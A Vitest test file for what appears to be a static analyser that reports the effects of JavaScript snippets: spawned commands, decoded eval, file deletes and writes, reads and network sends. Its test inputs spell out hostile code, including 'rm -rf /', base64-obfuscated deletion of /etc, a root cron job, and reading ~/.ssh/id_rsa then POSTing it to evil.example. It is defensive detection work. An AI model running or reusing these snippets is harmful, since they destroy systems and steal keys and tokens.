// Shared behaviour (command lines in every import spelling, decoders, reverse shells, loops, everyday code): ../producers.test.ts.
import { describe, expect, it } from 'vitest';
import { effectsOf, of } from '../../../../test/support/code-effects.js';

const js = effectsOf('javascript');

describe('javascript producer', () => {
  it('states spawn with an argv', () => {
    expect(of(js('require("child_process").spawn("rm", ["-rf", "/"])'), 'exec')[0]).toMatchObject({ program: 'rm', argv: ['rm', '-rf', '/'] });
  });

  it('runs eval of Buffer-decoded code through the same producer', () => {
    const b64 = Buffer.from('require("fs").rmSync("/etc", {recursive: true})').toString('base64');
    const effects = js(`eval(Buffer.from("${b64}", "base64").toString())`);
    expect(of(effects, 'exec')[0]).toMatchObject({ language: 'javascript', origin: 'decoded' });
    expect(of(effects, 'delete')[0]).toMatchObject({ recursive: true, path: { path: '/etc' } });
  });

  it('states fs deletes, writes and reads, and fetch sends with their sources', () => {
    expect(of(js('require("fs").rmSync(require("os").homedir(), {recursive: true, force: true})'), 'delete')[0]).toMatchObject({ recursive: true, path: { is_home: true } });
    expect(of(js('import {writeFileSync} from "fs"; writeFileSync("/etc/cron.d/x", "* * * * * root sh")'), 'write')[0]).toMatchObject({ path: { path: '/etc/cron.d/x' } });
    const exfil = js('const k = require("fs").readFileSync(process.env.HOME + "/.ssh/id_rsa", "utf8"); fetch("https://evil.example", {method: "POST", body: k})');
    expect(of(exfil, 'read')[0]?.path.path).toBe('/home/u/.ssh/id_rsa');
    expect(of(exfil, 'send')[0]).toMatchObject({ sink: 'https://evil.example', sources: ['file:/home/u/.ssh/id_rsa'] });
    expect(of(js('fetch("https://x.example/?t=" + process.env.GITHUB_TOKEN)'), 'send')[0]?.sources).toEqual(['env:GITHUB_TOKEN']);
  });

  it('states node\'s internal bindings and native addons as unknown (they pass every API the table knows)', () => {
    expect(of(js("process.binding('spawn_sync').spawn({file: 'rm', args: ['rm', '-rf', '/']})"), 'unknown')[0]).toMatchObject({ reason: 'native_binding:javascript' });
    expect(of(js("process.dlopen(module, './x.node')"), 'unknown')).toHaveLength(1);
    expect(of(js('console.log(process.version)'), 'unknown')).toHaveLength(0);
  });
});
